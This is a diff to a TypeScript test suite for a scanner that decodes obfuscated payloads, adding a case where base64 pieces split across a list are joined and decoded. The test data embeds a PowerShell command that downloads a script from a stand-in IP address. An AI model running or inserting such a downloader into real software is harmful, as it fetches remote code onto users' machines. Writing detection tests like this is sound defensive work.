@@ -102,6 +102,22 @@ describe('character codes shifted by a constant the file applies', () => {
     expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\n'${"\\'".repeat(400_000)}`)).toEqual([]);
     expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\n${`'${'a'.repeat(20)}`.repeat(50_000)}`)).toEqual([]);
   });
+  it('joins a list of three or more base64 pieces and decodes the whole', () => {
+    const cmd = "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a.ps1', $p)";
+    const b64 = Buffer.from(cmd, 'utf16le').toString('base64');
+    const pieces = b64.match(/.{1,24}/g) ?? [];
+    expect(pieces.length).toBeGreaterThan(3);
+    const list = (sep: string, trail: string): string => `PARTS = [${pieces.map((p) => `"${p}"`).join(sep)}${trail}]`;
+    expect(texts(list(',\n    ', ',\n'))).toContain(cmd);
+    expect(texts(`const parts = (${pieces.map((p) => `'${p}'`).join(', ')});`)).toContain(cmd);
+    // two pieces, an unclosed list, or a list with a non-base64 item are not joined
+    expect(texts(`X = ["${pieces[0]}", "${pieces[1]}"]`)).not.toContain(cmd);
+    expect(texts(list(', ', '').replace(/]$/, ''))).not.toContain(cmd);
+    expect(texts(`X = [${pieces.map((p) => `"${p}"`).join(', ')}, f(x)]`)).not.toContain(cmd);
+    // a megabyte of list openings and short items is read in one pass
+    expect(texts(`[${'"abcdefgh", '.repeat(90_000)}`)).toEqual([]);
+    expect(texts('["x", '.repeat(150_000))).toEqual([]);
+  });
   it('pickles kept as base64 are read for the names their opcodes carry', async () => {
     const { pickleText } = await import('./decoded.js');
     // protocol 0: GLOBAL posix system, then the command as a unicode string
